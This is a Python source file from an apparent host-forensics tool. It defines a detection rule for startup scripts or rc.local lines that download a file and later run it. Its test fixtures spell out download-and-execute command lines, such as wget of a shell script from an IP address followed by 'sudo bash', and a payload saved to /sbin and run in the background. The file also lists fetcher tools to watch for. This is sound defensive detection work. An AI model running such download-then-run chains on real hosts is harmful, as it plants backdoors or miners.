"""A script, or a file of start-up lines, that downloads a file and runs it further on.

Within one line the Sigma rule `linux.command.download-then-run` sees more ways, whatever the name.
"""

import re
from collections.abc import Collection, Iterable, Iterator, Mapping
from dataclasses import dataclass

from hemostat.detect.check import check, fires, quiet
from hemostat.detect.observables import observables_in
from hemostat.detect.places import home_of, is_odd
from hemostat.detect.subjects import subjects_of, values_of
from hemostat.model.evidence import Source
from hemostat.model.finding import Claim, RuleTexts
from hemostat.model.host import Scope
from hemostat.model.level import Level
from hemostat.model.path import HostPath, is_within, normal
from hemostat.model.path import name as last_part
from hemostat.model.records import Mechanism, ScriptLine, Startup
from hemostat.model.text import Text

TEXTS = RuleTexts(
    title=Text(
        en="A script that starts by itself downloads a file and later runs it",
        zh="自启动脚本先下载文件，随后执行该文件",
    ),
    summary=Text(
        en="{where} runs {file}, which an earlier line downloads: {download}",
        zh="{where} 执行了 {file}，该文件由前面的一行下载：{download}",
    ),
    benign=Text(
        en="A home-made updater or installer; see whether the address is yours and who wrote it.",
        zh="可能是自行编写的升级或安装脚本；核实下载地址是否为自有，并询问编写者。",
    ),
)

_MAX_TEXT = 16 * 1024
_BREAK = re.compile(r"[;&|\n(){}]+")
_CHAINED = re.compile(r"[;\n]+|&&|\|\||\bthen\b")
_FETCHERS = frozenset({"curl", "wget", "wget2", "aria2c", "axel", "fetch", "lwp-download"})
_RUNNERS = re.compile(r"(?:ba|da|z|k|a)?sh|source|\.|python[\d.]*|perl|php|ruby|node")
_BEFORE = frozenset(
    {"sudo", "nohup", "exec", "setsid", "env", "then", "do", "else", "if", "!", "time", "command"}
)
_NOWHERE = frozenset({"", "-", "null", "stdout", "stderr"})
_ASSIGNMENT = re.compile(r"\w+=\S*")
_NAMED_OUTPUT = re.compile(r"-[a-zA-Z]*[oO]|--output|--output-document|>>?|\d?>|--out")
_ADDRESS = re.compile(r"\b\w+://[^\s\"'`]*")
# Where projects publish their sources. A paste, or a bare address, is none of them.
_PUBLISHED = re.compile(
    r"https://(?:raw\.githubusercontent\.com|(?:codeload\.)?github\.com|gitlab\.com|bitbucket\.org"
    r"|codeberg\.org|git\.sr\.ht|gitee\.com)/.*",
    re.IGNORECASE,
)
_UNCHECKED = re.compile(r"\s(?:-[a-zA-Z]*k[a-zA-Z]*|--insecure|--no-check-certificate)\b")
# What a function was called with: where, its callers say.
_PARAMETER = re.compile(r"\$[1-9]")
_DETACHED = re.compile(r"\b(?:nohup|setsid|disown)\b|(?<![&>|])&(?![&>\d])")
_ENTERED = re.compile(r"(?:^|[\s;&|({])(?:cd|pushd)\s+([^\s;&|]+)")
_OWN_FOLDER = re.compile(r"\$\(dirname\b.*|`dirname\b.*|\$\{0%/\*\}.*")


@dataclass(frozen=True, slots=True)
class _Line:
    """One line with its record."""

    record: ScriptLine | Startup
    command: str


def _script(command: str, line: int) -> ScriptLine:
    path = HostPath("/opt/s.sh")
    return ScriptLine(source=Source(path=path, line=line), path=path, command=command)


def _boot(command: str, line: int) -> Startup:
    place = HostPath("/etc/rc.local")
    source = Source(path=place, line=line)
    return Startup(mechanism=Mechanism.RC_LOCAL, source=source, place=place, command=command)


@check(
    "linux.script.fetched-then-run",
    level=Level.HIGH,
    confidence=Level.MEDIUM,
    category="download_and_run",
    attack=("T1059.004", "T1105"),
    incident_types=("backdoor", "mining", "trojan"),
    texts=TEXTS,
    next=("keep-evidence", "block-outbound", "disable-persistence", "find-entry"),
    by_hand="cat -A {place}",
    examples=(
        fires(
            _script("wget -q http://198.51.100.7/mservice.sh", 2),
            _script("sudo bash mservice.sh 10014", 3),
        ),
        fires(
            _boot('curl -fsSLo "$T" http://x.example/k', 4),
            _boot("chmod +x $T", 5),
            _boot('nohup "${T}" -d >/dev/null 2>&1 &', 6),
        ),
        fires(
            _script("curl -s http://x.example/a.py > /var/lib/a.py", 1),
            _script("python3 /var/lib/a.py", 9),
        ),
        fires(
            _script(
                "wget -qO /sbin/kd2 http://x.example/k && chmod 755 /sbin/kd2 && /sbin/kd2 &", 2
            )
        ),
        fires(
            _script("[ -x $D/a ] || { curl -so $D/a http://x.example/a; chmod +x $D/a; }; $D/a", 1)
        ),
        quiet(
            _script(
                "curl -so /usr/local/bin/jq https://x.example/jq && chmod +x /usr/local/bin/jq", 1
            )
        ),
        quiet(_script("/opt/a/run && wget -q https://example.org/run -O /opt/a/run", 1)),
        quiet(
            _script("wget -q https://example.org/list.csv -O list.csv", 1),
            _script("python3 import.py list.csv", 2),
        ),
        quiet(
            _script("curl -fsSLO https://example.org/app.tar.gz", 1),
            _script("tar xzf app.tar.gz -C /opt/app", 2),
            _script("/opt/app/bin/start", 3),
        ),
        quiet(
            _script("bash deploy.sh", 1),
            _script("wget -q https://example.org/deploy.sh -O deploy.sh", 2),
        ),
        quiet(
            _script("curl -Lo /usr/local/bin/kubectl https://dl.k8s.io/v1/kubectl", 1),
            _script("chmod +x /usr/local/bin/kubectl", 2),
            _script("kubectl apply -f /srv/app.yaml", 3),
        ),
        quiet(_script("curl -so /dev/null http://localhost/", 1), _script("sh null", 2)),
    ),
)
def fetched_then_run(
    script_lines: Iterable[ScriptLine], startups: Iterable[Startup]
) -> Iterator[Claim]:
    """One line saves a download under a name, a later line of the same file runs that name.

    Low where a person's own script, in the home and run as that person alone, fetches part of a
    published project over https into that home and waits for it: so tools install themselves.

    Names are compared by their last part, variables by their name; what a variable holds is not
    worked out. So a whole download folder put on PATH is not seen.
    """
    files: dict[tuple[Scope, str], list[_Line]] = {}
    for line in script_lines:
        files.setdefault((line.scope, line.path), []).append(_Line(line, line.command))
    rooted: set[tuple[Scope, str]] = set()
    for startup in startups:
        key = (startup.scope, startup.place)
        files.setdefault(key, []).append(_Line(startup, startup.command))
        if startup.is_privileged:
            rooted.update((startup.scope, program) for program in startup.programs)
    for lines in files.values():
        yield from _within(lines, rooted)


def _within(lines: list[_Line], rooted: Collection[tuple[Scope, str]]) -> Iterator[Claim]:
    saved: dict[str, _Line] = {}
    for line, command in _commands(lines, saved):
        for name in names_run(command) if saved else ():
            if name in saved:
                download = saved.pop(name)
                home = _own_home(line, rooted) and _own_home(download, rooted)
                is_own = (
                    bool(home)
                    and not _DETACHED.search(line.command)
                    and _is_published_part(download.command, home)
                    and all(_stays_in(home, each.command) for each in lines)
                )
                yield _claim(line, download, name, Level.LOW if is_own else None)
        for name in names_saved(command):
            first = saved.setdefault(name, line)
            if _is_published(first.command) and not _is_published(line.command):
                saved[name] = line


def _commands(lines: list[_Line], saved: Mapping[str, _Line]) -> Iterator[tuple[_Line, str]]:
    """Each line with each of its commands, in order; none where nothing can be fetched or run."""
    for line in lines:
        text = line.command[:_MAX_TEXT]
        if saved or any(fetcher in text for fetcher in _FETCHERS):
            yield from ((line, part) for part in _CHAINED.split(text))


def _own_home(line: _Line, rooted: Collection[tuple[Scope, str]]) -> str:
    """The home of who runs the script, if it stands there plainly and root does not run it."""
    record = line.record
    path = record.path if isinstance(record, ScriptLine) else record.source.path
    home = home_of(path)
    is_own = home != "/root" and record.account not in ("", "root") and not is_odd(path)
    if not is_own or last_part(home) != record.account or (record.scope, path) in rooted:
        return ""
    return home


def _is_published(command: str) -> bool:
    addresses = _ADDRESS.findall(command)
    return bool(addresses) and all(_PUBLISHED.fullmatch(each) for each in addresses)


def _is_published_part(command: str, home: str) -> bool:
    """Whether all that a line fetches are checked files of projects, kept in a home."""
    return (
        _is_published(command)
        and not _UNCHECKED.search(command)
        and all(
            _PARAMETER.fullmatch(target) or _is_in_home(target, home)
            for target in _targets(command)
        )
    )


def _is_in_home(target: str, home: str) -> bool:
    """Whether a path as written, in a script that stays in a home, lies in it and is shown."""
    if "://" in target:
        target = last_part(target)
    target = re.sub(r"^(?:~|\$HOME)(?=/|$)", home, target)
    if not target or "$" in target or "`" in target or target.startswith("~"):
        return False
    path = normal(target if target.startswith("/") else f"{home}/a/{target}")
    return is_within(path, home) and not is_odd(path)


def _stays_in(home: str, command: str) -> bool:
    """Whether a line enters no folder outside a home, as far as can be told."""
    entered = (each.strip("\"'") for each in _ENTERED.findall(command))
    return all(_OWN_FOLDER.fullmatch(each) or _is_in_home(each, home) for each in entered)


def _claim(run: _Line, download: _Line, name: str, level: Level | None) -> Claim:
    technique = run.record.technique
    return Claim(
        subjects=subjects_of(run.record),
        because=(download.record, run.record),
        values={**values_of(run.record), "file": name, "download": download.command[:400]},
        level=level,
        attack=(technique,) if technique else (),
        observables=observables_in(download.command),
        scope=run.record.scope,
    )


def _simple_commands(text: str) -> Iterator[list[str]]:
    """The words of each simple command, quotes and what stands before the program taken off."""
    for part in _BREAK.split(text[:_MAX_TEXT].replace("${", "$").replace("}", " ")):
        words = [word for raw in part.split() if (word := raw.strip("\"'`"))]
        while words and (words[0] in _BEFORE or _ASSIGNMENT.fullmatch(words[0])):
            words = words[1:]
            while words and words[0].startswith("-"):
                words = words[1:]
        if words:
            yield words


def names_saved(text: str) -> Iterator[str]:
    """The names under which a text saves downloads."""
    names = map(last_part, _targets(text))
    yield from (name for name in names if name not in _NOWHERE)


def _targets(text: str) -> Iterator[str]:
    """Where a text saves downloads, as written; an address where the name comes from it."""
    if not any(fetcher in text for fetcher in _FETCHERS):
        return
    for words in _simple_commands(text):
        if last_part(words[0]) in _FETCHERS:
            yield from _outputs(words)


def _outputs(words: list[str]) -> Iterator[str]:
    program = last_part(words[0])
    is_named = False
    for word, following in zip(words, [*words[1:], ""], strict=True):
        option, equals, value = word.partition("=")
        # curl's -O takes no value: the name is the address's own.
        takes_value = not (program == "curl" and option.endswith("O"))
        if takes_value and _NAMED_OUTPUT.fullmatch(option):
            is_named = True
            yield value if equals else following
        elif word.startswith(">") and word.strip(">"):
            is_named = True
            yield word.lstrip(">")
    keeps_name = program != "curl" or any(
        re.fullmatch(r"-[a-zA-Z]*O|--remote-name", w) for w in words
    )
    if keeps_name and not is_named:
        yield from (word.partition("?")[0] for word in words[1:] if "://" in word)


def names_run(text: str) -> Iterator[str]:
    """The names that a text runs, or hands to an interpreter."""
    for words in _simple_commands(text):
        program = words[0]
        if not _RUNNERS.fullmatch(last_part(program)):
            # A bare name comes from PATH: tools that a script installs, then uses.
            if "/" in program or program.startswith("$"):
                yield last_part(program)
            continue
        arguments = [word for word in words[1:] if not word.startswith("-")]
        if arguments:
            yield last_part(arguments[0])
